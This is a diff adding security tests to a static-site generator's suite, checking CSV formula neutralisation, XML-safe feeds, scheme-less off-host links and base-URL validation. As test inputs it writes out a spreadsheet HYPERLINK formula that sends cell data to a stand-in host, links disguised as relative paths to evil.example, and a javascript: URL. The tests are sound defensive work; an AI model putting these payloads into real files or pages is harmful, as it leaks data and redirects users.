@@ -423,3 +423,65 @@ def test_an_output_that_holds_or_sits_in_an_input_is_refused(tree, build, option
     assert result.stderr.splitlines()[0] == (f"error: {said}: a build replaces its output whole, so it must never "
                                              "touch what it reads; choose an --out outside it")
     assert sorted(str(p.relative_to(tree)) for p in tree.rglob("*")) == before
+
+
+# ---- Every output is well formed ----
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_spreadsheet_formulas_in_the_open_data_are_neutralised(tree, build, start):
+    import csv
+    import json
+    formula = start + 'HYPERLINK("https://evil.example/?"&A2,"Open")'
+    set_field(tree, "quotes/pat-no.yml", "place", formula)
+    set_field(tree, "sources/paper.yml", "outlet", formula)
+    assert build("--out", "site", "--no-search", cwd=tree).returncode == 0
+    for kind, field in (("quotes", "place"), ("sources", "outlet")):
+        rows = list(csv.DictReader((tree / "site" / "data" / f"{kind}.csv").open(newline="", encoding="utf-8")))
+        assert rows[0][field] == "'" + formula  # shown as text by a spreadsheet, the quote mark hidden
+        assert json.loads((tree / "site" / "data" / f"{kind}.json").read_text())[0][field] == formula  # data as written
+
+
+def test_what_xml_cannot_hold_never_reaches_the_feed(tree, build):
+    import xml.etree.ElementTree as ElementTree
+    write(tree, "events/e.yml", "id: e\ndate: 2024-01-01\ntitle: An event\n"
+                                "summary: Form &#12; feed, &#xFFFE; and &#0; [@paper].\n")
+    assert build("--out", "site", "--no-search", cwd=tree).returncode == 0
+    feed = ElementTree.parse(tree / "site" / "feed.xml")  # raises on a character XML cannot hold
+    summary = feed.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}summary").text
+    assert summary.startswith("Form  feed, \ufffd and \ufffd")
+    ElementTree.parse(tree / "site" / "sitemap.xml")
+
+
+@pytest.mark.parametrize("character", ["\\uFFFE", "\\uFFFF"])
+def test_non_characters_that_xml_cannot_hold_are_refused(tree, build, character):
+    write(tree, "topics/border.yml", f'id: border\ntitle: "Bad {character}"\nsummary: x [@paper]\n')
+    assert_reports(build("check", cwd=tree), f"content/topics/border.yml:2:8: error: 'title' holds the control "
+                                             f"character U+{character[2:]} (a \\x or \\u escape?), which no page can "
+                                             "show: remove it")
+
+
+@pytest.mark.parametrize("link", ["//evil.example/", "/\\evil.example/", "/%5C%5Cevil.example/"])
+def test_a_link_to_another_host_without_a_scheme_is_not_a_relative_link(tree, build, link):
+    set_field(tree, "topics/border.yml", "summary", f"See [x]({link})")
+    assert build("--out", "site", "--no-search", cwd=tree).returncode == 0
+    page = BeautifulSoup((tree / "site" / "topics" / "border" / "index.html").read_text(), "html.parser")
+    hrefs = [a["href"] for a in page.select("main a[href]")]
+    assert not [href for href in hrefs if "evil" in href], hrefs
+
+
+@pytest.mark.parametrize("url", ["//evil.example/", "javascript:alert(1)", "https://x.example/?a=1",
+                                 "https://x.example/#top", "https://x.example:99999/", "https://x.example/a b/", ""])
+def test_the_base_url_option_is_checked(tree, build, url):
+    result = build("check", "--base-url", url, cwd=tree)
+    assert_only_problem_lines(result.stderr)
+    assert result.returncode == 1
+    assert result.stderr.splitlines()[0] == (
+        "error: --base-url must be where the site is published: an http:// or https:// address with no ?query or "
+        f"#fragment, such as https://example.org/explainer/, not '{url}'")
+
+
+def test_the_sites_base_url_has_no_query(tree, build):
+    set_field(tree, "site.yml", "base_url", "https://example.org/base/?x=1")
+    assert_reports(build("check", cwd=tree), "content/site.yml:4:11: error: 'base_url' must be where the site is "
+                                             "published, with no ?query or #fragment, not "
+                                             "'https://example.org/base/?x=1'")
